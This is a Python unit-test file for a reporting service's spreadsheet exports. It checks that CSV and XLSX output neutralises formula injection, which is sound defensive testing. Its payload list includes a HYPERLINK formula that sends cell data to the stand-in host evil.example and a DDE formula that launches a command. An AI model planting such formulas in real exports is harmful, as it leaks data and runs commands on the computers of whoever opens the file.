"""Formula injection: no text the service exports runs as a formula in a spreadsheet."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import Workbook, load_workbook

from stations.services.exports import CSV_FORMATS, write_report_csv, write_report_xlsx
from stations.services.queries.reports import CampaignReport, DayReport, StationReport
from stations.services.spreadsheet_cells import (
    SafeCsvWriter,
    neutralise_text,
    neutralise_workbook,
    safe_cell,
)
from tests.stations.services.report_samples import totals

pytestmark = pytest.mark.unit

#: The payloads of issue 12, verbatim.
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
PAYLOADS = [HYPERLINK, "=1+2", "=1+1", "@SUM(1)", "+1+1", "-1+1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("payload", [*PAYLOADS, "\t=1+1", "\r=1+1"])
def test_neutralise_text_puts_a_quote_before_a_formula(payload):
    assert neutralise_text(payload) == "'" + payload


@pytest.mark.parametrize("text", ["Trạm Hồng Ngự", "", "1+1", "a=b", "'=already quoted", " =x"])
def test_neutralise_text_leaves_other_text_alone(text):
    assert neutralise_text(text) == text


@pytest.mark.parametrize("value", [-5, -1.5, 0, 12, None, dt.date(2027, 2, 1)])
def test_safe_cell_leaves_numbers_dates_and_blanks_as_they_are(value):
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


def test_safe_csv_writer_neutralises_text_and_keeps_numbers():
    out = io.StringIO()

    SafeCsvWriter(csv.writer(out)).writerows([["=1+1", -3, "-1+1"], ["@SUM(1)", 2.5, "ok"]])

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+1", "-3", "'-1+1"],
        ["'@SUM(1)", "2.5", "ok"],
    ]


def test_neutralise_workbook_turns_formulas_typed_by_openpyxl_into_strings():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([HYPERLINK, -7, "Trạm"])
    second = workbook.create_sheet("Another")
    second["B2"] = "=1+2"
    assert sheet["A1"].data_type == "f"  # what openpyxl would have saved

    neutralise_workbook(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)

    loaded = load_workbook(io.BytesIO(buffer.getvalue()))
    cells = [loaded.active["A1"], loaded.active["B1"], loaded["Another"]["B2"]]
    assert [(c.value, c.data_type) for c in cells] == [
        ("'" + HYPERLINK, "s"),
        (-7, "n"),
        ("'=1+2", "s"),
    ]


def _hostile_report() -> CampaignReport:
    """A campaign and stations named with the payloads, and a negative figure."""
    figures = totals(stations=1, units=1, water_bottles=5, cost_vnd=-250_000)
    stations = [
        StationReport(n, payload, payload, payload, figures)
        for n, payload in enumerate(PAYLOADS, start=1)
    ]
    return CampaignReport(
        campaign_id=1,
        name="=1+2",
        kind="tet",
        status="open",
        starts_on=dt.date(2027, 2, 1),
        ends_on=dt.date(2027, 2, 1),
        budget_vnd=100_000,
        generated_at=dt.datetime(2027, 2, 2, tzinfo=dt.UTC),
        totals=totals(stations=7, units=1, cost_vnd=250_000),  # overspent: 100,000 - 250,000
        stations=stations,
        days=[DayReport(dt.date(2027, 2, 1), figures)],
    )


def _is_formula_text(value: object) -> bool:
    return isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_report_xlsx_writes_no_formula_and_keeps_negative_numbers():
    buffer = io.BytesIO()

    write_report_xlsx(_hostile_report(), buffer, language="en")

    workbook = load_workbook(io.BytesIO(buffer.getvalue()))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if _is_formula_text(c.value)] == []
    assert workbook.worksheets[0]["A1"].value == "'=1+2"
    by_station = workbook.worksheets[1]
    assert [row[1].value for row in by_station.iter_rows(min_row=2, max_row=8)] == [
        "'" + payload for payload in PAYLOADS
    ]
    cost = by_station.max_column
    assert by_station.cell(2, cost).value == -250_000
    assert by_station.cell(2, cost).data_type == "n"
    remaining = [row for row in workbook.worksheets[0].iter_rows(values_only=True) if row[1]]
    assert ("Budget remaining (VND)", -150_000) in [(row[0], row[1]) for row in remaining]


@pytest.mark.parametrize("fmt", sorted(CSV_FORMATS))
@pytest.mark.parametrize("breakdown", ["station", "day"])
def test_report_csv_writes_every_payload_quoted_and_numbers_plain(breakdown, fmt):
    out = io.StringIO()
    csv_format = CSV_FORMATS[fmt]

    write_report_csv(_hostile_report(), out, language="en", breakdown=breakdown, fmt=csv_format)

    text = out.getvalue().removeprefix(csv_format.bom)
    rows = list(csv.reader(io.StringIO(text), delimiter=csv_format.delimiter))
    texts = [cell for row in rows for cell in row if not _is_number(cell)]
    assert [cell for cell in texts if _is_formula_text(cell)] == []
    if breakdown == "station":
        assert [row[:3] for row in rows[1:]] == [["'" + p] * 3 for p in PAYLOADS]
    assert {row[-1] for row in rows[1:]} == {"-250000"}
